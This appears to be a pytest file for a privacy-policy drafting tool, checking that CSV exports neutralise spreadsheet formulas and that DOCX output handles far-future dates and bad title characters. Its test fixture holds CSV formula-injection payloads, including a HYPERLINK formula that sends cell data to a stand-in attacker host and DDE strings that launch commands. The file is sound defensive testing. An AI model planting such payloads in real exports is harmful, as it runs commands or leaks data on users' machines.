"""Outputs that are safe to open: a record CSV no spreadsheet runs, a DOCX for any date and title."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import zipfile
from pathlib import Path
from typing import Any

import docx
from helpers import minimal, write_profile

from drafter.cli import main
from drafter.legal.load import load_profile
from drafter.render.docx import to_docx
from drafter.render.policy import render_policy

# Cells a spreadsheet would run as formulas (the reproduction and OWASP's list).
FORMULAS = {
    "purpose": '=HYPERLINK("https://evil.example/?"&A1,"click here")',
    "data": "@SUM(1+1)*cmd|' /C calc'!A0",
    "security": "+cmd|' /C notepad'!A0",
    "retention": "-2+3+cmd|' /C calc'!A0",
}


def _formula_profile(tmp_path: Path) -> Path:
    data = minimal(security={"other": [FORMULAS["security"]]})
    data["purposes"][0]["description"] = FORMULAS["purpose"]
    data["data"][0]["label"] = FORMULAS["data"]
    data["data"].append({"id": "notes", "label": "notes", "examples": ["remarks"], "source": "you"})
    data["purposes"][0]["data"] = ["contact", "notes"]
    data["retention"] = [
        {"data": ["contact"], "period": "3 years", "starts": "last_activity"},
        {"data": ["notes"], "criteria": FORMULAS["retention"]},
    ]
    return write_profile(tmp_path / "p.yaml", data)


def test_record_csv_cells_never_start_a_formula(tmp_path: Path, capsys: Any) -> None:
    assert main(["record", str(_formula_profile(tmp_path)), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    cells = [cell for row in rows for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    (row,) = rows[1:]
    # Neutralised the way OWASP recommends: a leading quote, the text kept whole.
    assert row[0] == "'" + FORMULAS["purpose"]
    assert row[3].startswith("'@SUM(1+1)")
    assert row[7] == "'" + FORMULAS["security"]
    assert row[6].split("\n")[1].startswith("Notes: -2+3")  # inside a cell, nothing is run


def _policy(tmp_path: Path) -> Any:
    return render_policy(load_profile(write_profile(tmp_path / "p.yaml", minimal())), "en")


def test_docx_after_2107_is_dated_as_late_as_zip_allows(tmp_path: Path) -> None:
    """The issue's reproduction: a date after 2107 crashed DOCX (the ZIP year has 7 bits)."""
    data = to_docx(_policy(tmp_path), dt.date(2108, 1, 1))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(2107, 12, 31, 0, 0, 0)}
    assert docx.Document(io.BytesIO(data)).core_properties.modified.year == 2108


def test_docx_title_with_characters_xml_cannot_hold(tmp_path: Path) -> None:
    """A control character or U+FFFE/U+FFFF in the title crashed DOCX; they are dropped, like in the body."""
    policy = _policy(tmp_path)
    policy = dataclasses.replace(policy, title=policy.title + " \x07Ex\x1bample\ufffe\uffff")
    document = docx.Document(io.BytesIO(to_docx(policy, dt.date(2026, 1, 1))))
    assert document.core_properties.title.endswith(" Example")
